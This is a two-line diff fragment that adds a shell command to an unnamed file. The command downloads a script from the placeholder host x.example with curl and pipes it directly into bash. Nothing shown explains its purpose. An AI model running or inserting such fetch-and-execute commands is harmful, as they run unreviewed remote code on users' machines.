@@ -1,0 +1,2 @@
+curl https://x.example/s \
+  | bash
